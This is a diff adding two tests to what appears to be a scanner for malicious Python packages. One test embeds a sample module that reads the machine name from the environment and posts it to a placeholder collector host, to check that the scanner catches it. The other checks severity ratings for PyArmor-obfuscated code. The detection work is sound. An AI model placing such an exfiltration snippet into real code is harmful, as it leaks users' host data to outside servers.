@@ -291,3 +291,27 @@ def test_hidden_window_flags_as_numbers(tmp_path: Path, flags: str, hidden: bool
     code = f"import subprocess\nsubprocess.Popen(['updater'], creationflags={flags})\n"
     worst = _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW121")
     assert (worst is not None and worst >= Severity.HIGH) == hidden
+
+
+def test_a_file_broken_below_its_payload_is_still_read(tmp_path: Path) -> None:
+    """A stray line pasted at the end (or a bad indent further down) does not hide the statements
+    above it."""
+    code = ('import os\nimport httpx\n\ndata = {"user": os.getenv("COMPUTERNAME")}\n'
+            'httpx.post("https://collector.example.net/x", json=data)\n\n'
+            'def later():\n    return 1\n\nSource: https://example.net/page\n')
+    assert _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW130") is not None
+    (tmp_path / "b").mkdir()
+    py2 = 'import os\n\nHOME = os.path.expanduser("~")\nprint "home is", HOME\n'
+    assert not [f for f in _scan(tmp_path / "b", {"demo/__init__.py": py2}) if f.severity >= Severity.MEDIUM]
+
+
+def test_pyarmor_code_without_its_runtime_is_high_with_it_medium(tmp_path: Path) -> None:
+    """A commercial package ships PyArmor-protected modules with the runtime beside them; protected
+    code published without the runtime can neither be read nor run as it stands."""
+    stub = ("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
+            "__pyarmor__(__name__, __file__, b'\\x50\\x59')\n")
+    alone = _scan(tmp_path, {"demo/__init__.py": stub})
+    assert _worst(alone, "PW112") == Severity.HIGH
+    (tmp_path / "rt").mkdir()
+    shipped = _scan(tmp_path / "rt", {"demo/__init__.py": stub, "demo/pytransform/__init__.py": "# runtime\n"})
+    assert _worst(shipped, "PW112") == Severity.MEDIUM
